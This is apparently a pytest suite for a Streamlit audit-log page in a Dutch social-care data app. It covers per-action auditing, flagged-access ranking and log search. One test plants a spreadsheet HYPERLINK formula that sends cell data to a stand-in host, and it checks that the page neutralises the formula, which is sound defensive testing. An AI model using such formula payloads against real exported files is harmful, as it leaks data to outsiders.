"""The audit page in-process (Streamlit's AppTest, no browser needed): one look-up of a household writes one
"data subject request" record per user action — not one per rerun, as every widget touched reruns the page."""

from __future__ import annotations

from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

import ingest.mapping  # noqa: F401  (imported here: AppTest puts app/views first on sys.path, where ingest.py is a page)
import queries.people  # noqa: F401
from app.auth import default_store
from queries.access import Role
from queries.audit import default_audit_log
from tests.shown import as_read

PAGE = str(Path(__file__).resolve().parents[2] / "app" / "views" / "audit.py")


@pytest.fixture()
def admin_page(test_env: dict[str, str]) -> AppTest:
    store = default_store()
    acc = store.get("auditadmin") or store.add_user("auditadmin", Role.ADMIN, password="a long admin password")
    at = AppTest.from_file(PAGE, default_timeout=60)
    at.session_state["wijknet_session_token"] = store.start_session(acc)
    return at


def _records(action: str) -> list[tuple[str, str]]:
    return [(r.target, r.purpose) for r in default_audit_log().records(user="auditadmin") if r.action == action]


def _box(at: AppTest, label: str):  # type: ignore[no-untyped-def]
    return next(w for w in at.text_input if w.label == label)


def test_a_household_lookup_is_audited_once_per_action_not_per_rerun(admin_page: AppTest) -> None:
    at = admin_page
    at.run()
    assert not at.exception
    before = _records("audit_who_saw")
    _box(at, "Kenmerk van het huishouden").input("HH-0001")
    look = [b for b in at.button if b.label == "Opzoeken"]
    if look:  # the look-up is one action: typing and pressing the button
        look[0].click()
    at.run()
    assert _records("audit_who_saw")[len(before):] == [("HH-0001", "data_subject_request")]
    assert any("Niemand heeft HH-0001 bekeken" in as_read(i.value) for i in at.info)

    # Reruns from anything else on the page (a checkbox on another tab, a slider, a plain rerun): no new record,
    # and the answer stays on the screen.
    at.run()
    next(s for s in at.slider if s.label == "Meest recente regels").set_value(100).run()
    at.run()
    assert _records("audit_who_saw")[len(before):] == [("HH-0001", "data_subject_request")]
    assert any("Niemand heeft HH-0001 bekeken" in as_read(i.value) for i in at.info)

    # Asking again is a new action: one more record.
    look = [b for b in at.button if b.label == "Opzoeken"]
    assert look, "the look-up needs a button: a text box alone reruns (and would audit) on every change"
    look[0].click().run()
    assert _records("audit_who_saw")[len(before):] == [("HH-0001", "data_subject_request")] * 2


def test_the_full_log_view_is_audited_once_per_request(admin_page: AppTest) -> None:
    at = admin_page
    at.run()
    before = len(_records("view_audit_log"))
    at.run()
    at.run()
    assert len(_records("view_audit_log")) == before  # reruns show what was already read (and audited)
    _box(at, "Alleen deze gebruiker").input("coach1").run()
    assert len(_records("view_audit_log")) == before + 1  # a new request


def test_flagged_access_shows_the_worst_first(admin_page: AppTest) -> None:
    """A coach asking for three households outside the caseload is the first row the admin reads, ranked above
    anything else the session's log holds, with its severity in words."""
    log = default_audit_log()
    for hh in ("HH-7001", "HH-7002", "HH-7003"):
        log.record(user="nieuwsgierig", role="coach", organisation="Wijkcoaches", action="view_household",
                   target=hh, purpose="home_visit_preparation", result="denied")
    at = admin_page
    at.run()
    next(b for b in at.button if b.label == "Controle uitvoeren").click().run()
    assert not at.exception
    table = at.dataframe[0].value
    assert list(table.columns[:4]) == ["Ernst", "Regel", "Gebruiker", "Eerste"]
    severities = list(table["Ernst"])
    assert severities == sorted(severities, key=["hoog", "middel", "laag"].index)  # the worst first
    assert "nieuwsgierig" in set(table.loc[table["Ernst"] == "hoog", "Gebruiker"])


def test_the_whole_log_reads_in_dutch(admin_page: AppTest) -> None:
    """What the reviewers saw raw on the "Alles" tab: a failed write, a CLI export, the command line as the
    organisation — each in Dutch, and nothing of it in English."""
    log = default_audit_log()
    log.record(user="cli:beheer", role="data_steward", organisation="command line", action="demo_load",
               target="demo", purpose="demo", result="failed", detail="RuntimeError")
    log.record(user="cli:beheer", role="policy", organisation="command line", action="export_report_collaboration",
               target="csv", result="ok")
    log.record(user="system:demo", role="data_steward", organisation="wijknet", action="intake_open",
               target="SIG-1", result="opened")
    at = admin_page
    at.run()
    assert not at.exception
    table = next(d.value for d in at.dataframe if "Uitkomst" in d.value.columns)
    mine = table[table["Gebruiker"].isin(["cli:beheer", "system:demo"])]
    # (other tests of the session may have left system:demo records, a demo load: geladen)
    assert {"mislukt", "toegestaan", "gestart"} <= set(mine["Uitkomst"])
    assert set(mine["Organisatie"]) == {"opdrachtregel", "wijknet (systeem)"}
    assert "export: rapport samenwerking" in set(mine["Handeling"])
    shown = " ".join(str(v) for v in mine.to_numpy().ravel())
    for raw in ("failed", "command line", "report collaboration", "opened"):
        assert raw not in shown


def test_a_formula_typed_at_the_sign_in_page_is_shown_inert_in_the_log(admin_page: AppTest) -> None:
    """Anyone may type a user name at the sign-in page, and the refusal is logged with it: the table's own
    "download as CSV" wrote ``=HYPERLINK(…)`` into the admin's file as a formula (a steward's walk, 08-12-2026)."""
    from queries.access import Actor, audit_action

    typed = '=HYPERLINK("http://x.test/?a="&A1;"klik")'
    audit_action(default_audit_log(), Actor(typed, Role.POLICYMAKER, ""), "sign_in", result="denied",
                 detail="unknown user")
    at = admin_page
    at.run()
    _box(at, "Alleen deze gebruiker").input(typed).run()
    table = at.dataframe[-1].value
    assert list(table.iloc[:, 1])[:1] == ["'" + typed], table.head()


def test_the_whole_log_can_be_searched_by_action_target_and_days(admin_page: AppTest) -> None:
    """A steward's walk (08-12-2026): the whole log had an exact user name and the newest 5,000 records only; an
    FG's "everything this user did in March" could not be answered on the page."""
    from datetime import timedelta

    from graph.clock import today
    from queries.access import Actor, audit_action

    who = Actor("zoekcoach", Role.POLICYMAKER, "Gemeente")
    audit_action(default_audit_log(), who, "view_overlap", target="HH-ZOEK-1")
    audit_action(default_audit_log(), who, "view_household", target="HH-ZOEK-2")
    at = admin_page
    at.run()
    _box(at, "Alleen deze gebruiker").input("zoekcoach").run()
    assert any(c.value.startswith("2 regels gevonden") for c in at.caption), [c.value for c in at.caption]
    next(s for s in at.selectbox if s.label == "Handeling").set_value("view_household").run()
    assert any(c.value.startswith("1 regel gevonden") for c in at.caption)
    assert list(at.dataframe[-1].value.iloc[:, 1]) == ["zoekcoach"]
    _box(at, "Alleen dit huishouden of ander doel").input("HH-ZOEK-1").run()
    assert [i.value for i in at.info][-1] == "Geen regels met deze keuzes."
    _box(at, "Alleen dit huishouden of ander doel").input("").run()
    _box(at, "Vanaf (dag)").input(f"{today() + timedelta(days=1):%d-%m-%Y}").run()
    assert [i.value for i in at.info][-1] == "Geen regels met deze keuzes."
    _box(at, "Vanaf (dag)").input(f"{today():%d-%m-%Y}").run()
    _box(at, "Tot en met (dag)").input(f"{today():%d-%m-%Y}").run()
    assert any(c.value.startswith("1 regel gevonden") for c in at.caption)
    _box(at, "Tot en met (dag)").input("31-02-2026").run()  # said under the field, nothing read for it
    assert any("31" in e.value for e in at.error)
    assert [r.detail for r in default_audit_log().records(user="auditadmin") if r.action == "view_audit_log"][-1] \
        == f"user=zoekcoach;action=view_household;since={today()};until={today()}"
